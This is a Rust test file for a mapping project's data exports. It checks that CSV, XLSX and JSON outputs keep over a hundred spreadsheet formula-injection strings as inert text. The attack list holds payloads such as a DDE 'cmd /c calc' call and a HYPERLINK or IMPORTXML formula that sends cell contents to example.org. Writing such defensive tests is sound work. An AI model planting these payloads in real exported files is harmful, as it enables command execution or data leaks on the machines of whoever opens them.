//! Texts that want to be formulas.

use calamine::{Data, Reader};
use serde_json::Value;
use teknoharita::messages::Lang;
use teknoharita::protocol::PublishForm;
use teknoharita::view::{PageView, ViewNumbers};

use super::super::texts;
use super::{made, readers, views};

/// What spreadsheets were made to run, or might be, each behind several beginnings: over a hundred texts.
fn attacks() -> Vec<String> {
    const BODIES: [&str; 10] = [
        "cmd|'/c calc'!A0",
        "HYPERLINK(\"http://example.org/?\"&A1,\"x\")",
        "1+1",
        "SUM(A1:A9)",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "WEBSERVICE(\"http://example.org\")",
        "IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
        "2+5+cmd|'/c calc'!A0",
        "-1\"\"=1",
        "İL(\"ş;ğ,1\")",
    ];
    const BEGINNINGS: [&str; 14] =
        ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "\u{feff}=", "\"=", "Ankara;="];
    BEGINNINGS.iter().flat_map(|start| BODIES.map(|body| format!("{start}{body}"))).collect()
}

/// A view with attacks in the places of names and in all its texts.
fn attacked(both: &(PageView, ViewNumbers), attacks: &[String]) -> (PageView, ViewNumbers) {
    let (mut view, numbers) = both.clone();
    let mut next = attacks.iter().cycle().cloned();
    let mut attack = || next.next().unwrap();
    texts(&mut view).into_iter().for_each(|text| *text = attack());
    view.mark = Some(attack());
    view.notes = vec![attack(), attack()];
    view.summary = vec![attack()];
    for province in &mut view.map.provinces {
        province.name = attack();
        province.aria = attack();
        province.tooltip = vec![attack()];
    }
    for line in &mut view.card.lines {
        (line.label, line.value) = (attack(), attack());
    }
    (view, numbers)
}

/// Whether a spreadsheet would run a cell.
fn runs(cell: &str) -> bool {
    // With the marks of either language.
    let is_number = cell.replace(',', ".").parse::<f64>().is_ok();
    let seen =
        cell.trim_start_matches(|letter: char| letter.is_control() || letter == '\u{feff}' || letter == '"');
    seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_number
}

/// The cells that a spreadsheet sees that splits at another letter, quotes only counting where a cell begins.
fn cells_under(text: &str, delimiter: u8) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flatten()
        .flat_map(|record| record.iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

fn mixed(lang: Lang) -> (PageView, ViewNumbers) {
    let name = format!("ranges and corrections, {}", lang.tag());
    views().into_iter().find(|(known, _)| *known == name).unwrap().1
}

#[test]
fn no_cell_of_a_csv_file_runs_and_numbers_below_zero_stay_numbers() {
    let all = attacks();
    assert!(all.len() >= 100);
    for lang in Lang::ALL {
        let plain_numbers = readers::plain_csv(&made(&mixed(lang), &PublishForm::CsvPlain).bytes);
        let both = attacked(&mixed(lang), &all);
        for form in [PublishForm::Csv, PublishForm::CsvPlain, PublishForm::Datawrapper] {
            let bytes = made(&both, &form).bytes;
            let text = String::from_utf8(bytes.clone()).unwrap();
            for delimiter in [b',', b';', b'\t', b'|'] {
                for cell in cells_under(&text, delimiter) {
                    assert!(!runs(&cell), "{form:?} {delimiter}: {cell:?}");
                }
            }
        }
        let bytes = made(&both, &PublishForm::CsvPlain).bytes;
        let numbers = readers::plain_csv(&bytes);
        assert_eq!(numbers, plain_numbers);
        assert_eq!(numbers["73"][0], Some(-11.111111));
        let excel = readers::excel_csv(&made(&both, &PublishForm::Csv).bytes, lang);
        assert_eq!(excel["73"][0], Some(-11.111111));
        // The attack is still there to be read, behind an apostrophe.
        let names: Vec<String> =
            readers::records(&bytes, b',').into_iter().map(|record| record[4].clone()).collect();
        assert!(names.iter().filter(|name| name.contains('\'')).count() >= 81);
    }
}

#[test]
fn texts_of_a_workbook_are_texts() {
    for lang in Lang::ALL {
        let all = attacks();
        // As many views as it takes for each text to stand in a cell.
        for part in all.chunks(70) {
            let both = attacked(&mixed(lang), part);
            let bytes = made(&both, &PublishForm::Xlsx).bytes;
            let mut book: calamine::Xlsx<_> =
                calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.clone())).unwrap();
            let (mut found, mut below_zero) = (Vec::new(), 0);
            for sheet in book.sheet_names() {
                assert!(book.worksheet_formula(&sheet).unwrap().is_empty());
                for (_, _, cell) in book.worksheet_range(&sheet).unwrap().used_cells() {
                    match cell {
                        Data::String(text) => found.push(text.clone()),
                        Data::Float(number) => below_zero += usize::from(*number < 0.0),
                        other => panic!("{other:?}"),
                    }
                }
            }
            assert!(below_zero >= 3);
            for text in part {
                // XML has one kind of line end, and no byte order mark is lost.
                let kept = text.replace('\r', "\n");
                assert!(found.contains(&kept), "{text:?}");
            }
            assert!(!String::from_utf8_lossy(&bytes).contains("<f>"));
        }
    }
}

#[test]
fn json_keeps_every_text_as_it_is() {
    let all = attacks();
    let both = attacked(&mixed(Lang::Tr), &all);
    for form in [PublishForm::Json, PublishForm::GeoJson] {
        let json: Value = serde_json::from_slice(&made(&both, &form).bytes).unwrap();
        let text = json.to_string();
        assert!(text.contains(&serde_json::to_string(&both.0.title).unwrap()));
    }
    let json: Value = serde_json::from_slice(&made(&both, &PublishForm::Json).bytes).unwrap();
    for (place, shown) in json["places"].as_array().unwrap().iter().zip(both.0.map.places()) {
        assert_eq!(place["name"], Value::from(shown.name.as_str()));
    }
}
